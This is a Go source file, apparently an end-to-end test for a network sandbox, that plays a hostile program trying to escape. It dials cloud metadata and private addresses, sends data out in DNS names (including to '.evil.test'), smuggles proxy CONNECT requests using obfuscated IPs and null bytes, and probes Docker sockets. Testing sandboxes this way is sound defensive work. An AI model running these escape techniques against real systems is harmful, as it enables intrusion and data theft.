// Copyright 2026 The Sallyport Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"io"
	mrand "math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"
)

// A summary is what a hostile program has tried, and what of it worked. That it worked in its eyes need not mean that
// anything got out: a connection may be accepted and cut off. The witnesses outside know.
type summary struct {
	Tries int
	// Tried counts by the first word of what was tried.
	Tried map[string]int
	// Worked counts what went through, by what it was.
	Worked map[string]int
	// Answered are bytes that came back from where nothing should have: these are breaches.
	Answered map[string]int
}

// attack collects what the attackers report. Safe for concurrent use.
type attack struct {
	ctx context.Context
	own []string // addresses that the sandbox's name server has given us: an answer from there is no breach

	mu sync.Mutex
	summary
}

func (a *attack) report(what string, worked, answered bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.Tries++
	kind, _, _ := strings.Cut(what, " ")
	a.Tried[kind]++
	if worked {
		a.Worked[what]++
	}
	if answered {
		a.Answered[what]++
	}
}

// hostile tries everything at once and again and again.
func hostile(duration, probe string) error {
	d, err := time.ParseDuration(duration)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	own, _ := resolver.LookupHost(ctx, "github.com") // none where nothing can be looked up
	a := &attack{ctx: ctx, own: own, summary: summary{
		Tried: map[string]int{}, Worked: map[string]int{}, Answered: map[string]int{}}}
	var wg sync.WaitGroup
	for _, attacker := range []func(){a.connect, a.ask, a.send, a.smuggle, a.sockets, func() { a.probe(probe) }} {
		wg.Go(func() {
			for ctx.Err() == nil {
				attacker()
			}
		})
	}
	wg.Wait()
	return json.NewEncoder(os.Stdout).Encode(a.summary)
}

// Where it wants to get: public hosts that answer, the host's loopback, private networks, the metadata service, in all
// forms, and addresses a name server may have given to somebody else.
var wanted = []string{
	"140.82.112.3", "93.184.215.30", "169.254.169.254", "10.0.0.1", "192.168.1.1", "172.17.0.1", "127.0.0.1", "127.0.0.2",
	"::1", "::ffff:93.184.215.30", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd12:3456::1",
	"2606:2800:21f::14", "fe80::1", "0.0.0.0", "255.255.255.255", "224.0.0.251", "198.18.0.1", "198.18.0.99", "198.19.255.254",
	"fd73:616c:6c79::1", "fd73:616c:6c79::ffff",
}

// Ports: those the policy admits, those of services, and any.
var ports = []uint16{443, 80, 22, 53, 8080, 3128, 7000, 5432, 2375, 111, 1, 65535}

func target() netip.AddrPort {
	p := ports[mrand.IntN(len(ports))]
	if mrand.IntN(8) == 0 {
		p = uint16(1 + mrand.IntN(65535))
	}
	return netip.AddrPortFrom(netip.MustParseAddr(wanted[mrand.IntN(len(wanted))]), p)
}

// connect dials past the proxy. In a transparent sandbox a connection may come about and is cut off: only an answer
// is a breach. An answer on loopback is this sandbox's own.
func (a *attack) connect() {
	to := target()
	c, err := (&net.Dialer{Timeout: 300 * time.Millisecond}).DialContext(a.ctx, "tcp", to.String())
	if err != nil {
		a.report("connect "+to.Addr().String(), false, false)
		return
	}
	defer c.Close()
	ours := to.Addr().Unmap().IsLoopback() || to.Addr().IsUnspecified() || to.Port() == 53 || slices.Contains(a.own, to.Addr().String())
	a.report("connect "+to.Addr().String(), true, !ours && answers(c, "GET / HTTP/1.0\r\n\r\n"))
}

// answers reports whether anything comes back.
func answers(c net.Conn, text string) bool {
	_ = c.SetDeadline(time.Now().Add(300 * time.Millisecond))
	if _, err := io.WriteString(c, text); err != nil {
		return false
	}
	n, _ := io.ReadFull(c, make([]byte, 1)) // none is the good answer
	return n > 0
}

// ask carries data out in names, to name servers of its own choice, over UDP and TCP.
func (a *attack) ask() {
	network := []string{"udp", "tcp"}[mrand.IntN(2)]
	server := []string{"9.9.9.9:53", "[2620:fe::fe]:53", "192.0.2.53:53", "127.0.0.53:53", "10.0.0.1:53", "198.18.0.1:53"}[mrand.IntN(6)]
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, server)
	}}
	secret := make([]byte, 20)
	_, _ = rand.Read(secret) // never fails
	name := hex.EncodeToString(secret) + []string{".refused.example.net", ".github.com", ".evil.test", ".localhost"}[mrand.IntN(4)]
	ctx, cancel := context.WithTimeout(a.ctx, 300*time.Millisecond)
	defer cancel()
	var err error
	switch mrand.IntN(3) {
	case 0:
		_, err = r.LookupTXT(ctx, name)
	case 1:
		_, err = r.LookupMX(ctx, name)
	default:
		_, err = r.LookupHost(ctx, name)
	}
	a.report("ask "+network, err == nil, err == nil && !strings.HasSuffix(name, ".localhost"))
}

// send sends datagrams: QUIC, NTP, multicast, and questions that are none.
func (a *attack) send() {
	to := target()
	c, err := (&net.Dialer{}).DialContext(a.ctx, "udp", to.String())
	if err != nil {
		a.report("send", false, false)
		return
	}
	defer c.Close()
	junk := make([]byte, 1+mrand.IntN(1400))
	_, _ = rand.Read(junk)
	_, err = c.Write(junk)
	a.report("send", err == nil, false)
}

// smuggle asks the proxy for what it must refuse, in the words that have deceived proxies.
func (a *attack) smuggle() {
	heads := []string{
		"CONNECT refused.example.net:443 HTTP/1.1\r\nHost: github.com:443\r\n\r\n",
		"CONNECT metadata.example.net:80 HTTP/1.1\r\nHost: metadata.example.net\r\n\r\n",
		"CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n", "CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\r\n\r\n",
		"CONNECT 0251.0376.0251.0376:80 HTTP/1.1\r\n\r\n", "CONNECT 2852039166:80 HTTP/1.1\r\n\r\n", "CONNECT 127.0.0.1:80 HTTP/1.1\r\n\r\n",
		"CONNECT github.com@refused.example.net:443 HTTP/1.1\r\n\r\n", "CONNECT github.com.refused.example.net:443 HTTP/1.1\r\n\r\n",
		"CONNECT github.com:443:80 HTTP/1.1\r\n\r\n", "CONNECT github.com:22 HTTP/1.1\r\n\r\n", "CONNECT github.com\x00.refused.example.net:443 HTTP/1.1\r\n\r\n",
		"CONNECT refused.example.net:443 HTTP/1.1\nHost: github.com\n\n", "GET http://refused.example.net/ HTTP/1.1\r\nHost: github.com\r\n\r\n",
		"POST http://169.254.169.254/ HTTP/1.1\r\nHost: github.com\r\nContent-Length: 0\r\n\r\n",
		"CONNECT 198.18.0.99:443 HTTP/1.1\r\n\r\n", "CONNECT [fd73:616c:6c79::ffff]:443 HTTP/1.1\r\n\r\n",
		"\x05\x01\x00\x05\x01\x00\x03\x13refused.example.net\x01\xbb", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	}
	head := heads[mrand.IntN(len(heads))]
	ctx, cancel := context.WithTimeout(a.ctx, 300*time.Millisecond)
	defer cancel()
	c, err := toProxy(ctx)
	if err != nil {
		a.report("smuggle", false, false)
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(300 * time.Millisecond))
	_, _ = io.WriteString(c, head)
	line := make([]byte, 12)
	n, _ := io.ReadFull(c, line)
	through := n == len(line) && string(line[8:]) == " 200"
	a.report("smuggle", through, through)
}

// sockets connects to every Unix socket that it finds in the usual places, and to abstract ones by guess.
func (a *attack) sockets() {
	paths := []string{"@sallyport-e2e-hostile", "@/tmp/.X11-unix/X0", "/run/docker.sock", "/run/containerd/containerd.sock"}
	for _, pattern := range []string{"/run/*", "/run/*/*", "/run/user/*/*", "/tmp/.*/*", "/var/run/*/*", os.Getenv("VISITOR_SOCKETS") + "/*"} {
		found, _ := filepath.Glob(pattern)
		for _, f := range found {
			if i, err := os.Lstat(f); err == nil && i.Mode()&os.ModeSocket != 0 {
				paths = append(paths, f)
			}
		}
	}
	for _, p := range paths {
		for _, network := range []string{"unix", "unixgram", "unixpacket"} {
			c, err := net.Dial(network, p)
			if err == nil {
				_, _ = c.Write([]byte("hostile"))
				c.Close()
			}
			a.report("socket "+p, err == nil, err == nil)
		}
	}
}

// action is what the suite's probe is told to try.
type action struct {
	Do      string `json:"do"`
	Network string `json:"network,omitempty"`
	Address string `json:"address,omitempty"`
	Timeout int    `json:"timeout"`
}

func (a action) String() string {
	return strings.Join(strings.Fields(a.Do+" "+a.Network+" "+a.Address), " ")
}

// probeActions lists what is not in this file: raw and exotic sockets, system calls of other architectures, io_uring,
// namespaces.
func probeActions() []action {
	const docker = "/run/docker.sock"
	all := []action{{Do: "raw"}, {Do: "configure"}, {Do: "unshare", Network: "tcp4", Address: "93.184.215.30:443"},
		{Do: "foreign", Network: "i386", Address: docker}, {Do: "foreign", Network: "x32", Address: docker}}
	for _, family := range []string{"3", "4", "5", "9", "15", "17", "21", "29", "30", "31", "38", "40", "41", "44"} {
		all = append(all, action{Do: "family", Address: family})
	}
	for _, kind := range []string{"unix", "unixgram", "unixpacket"} {
		all = append(all, action{Do: "path", Network: kind, Address: docker}, action{Do: "ring", Network: kind, Address: docker})
	}
	for _, name := range []string{"io_uring", "userfaultfd", "perf_event_open", "bpf"} {
		all = append(all, action{Do: "kernel", Address: name})
	}
	for do, network := range map[string]string{"send": "udp", "dial": "tcp"} {
		all = append(all, action{Do: do, Network: network, Address: "93.184.215.30:9"},
			action{Do: do, Network: network, Address: "[2606:2800:21f::14]:443"})
	}
	for i := range all {
		all[i].Timeout = 300
	}
	return all
}

// probe runs the suite's probe, once for all that it can try, and once for each thing that it may be killed for.
func (a *attack) probe(program string) {
	actions := probeActions()
	mrand.Shuffle(len(actions), func(i, j int) { actions[i], actions[j] = actions[j], actions[i] })
	deadly := func(x action) bool { return x.Do == "foreign" }
	a.probeOnce(program, slices.DeleteFunc(slices.Clone(actions), deadly))
	for _, x := range actions {
		if deadly(x) {
			a.probeOnce(program, []action{x})
		}
	}
}

func (a *attack) probeOnce(program string, actions []action) {
	script, err := json.Marshal(actions)
	if err != nil {
		panic(err) // strings and numbers
	}
	out, err := exec.CommandContext(a.ctx, program, "egress-conformance-probe", "report", string(script)).Output()
	if err != nil && len(actions) == 1 && a.ctx.Err() == nil {
		a.report(actions[0].String(), false, false) // killed for it
		return
	}
	var r struct {
		Results []struct {
			Action action
			Done   bool
		}
	}
	if err := json.Unmarshal(out, &r); err != nil {
		return // the time is over, or the kinds that are missing from the summary show it
	}
	for _, x := range r.Results {
		harmless := x.Action.Do == "send" || x.Action.Do == "dial" || x.Action.Do == "unshare" // the witnesses judge these
		a.report(x.Action.String(), x.Done, x.Done && !harmless)
	}
}
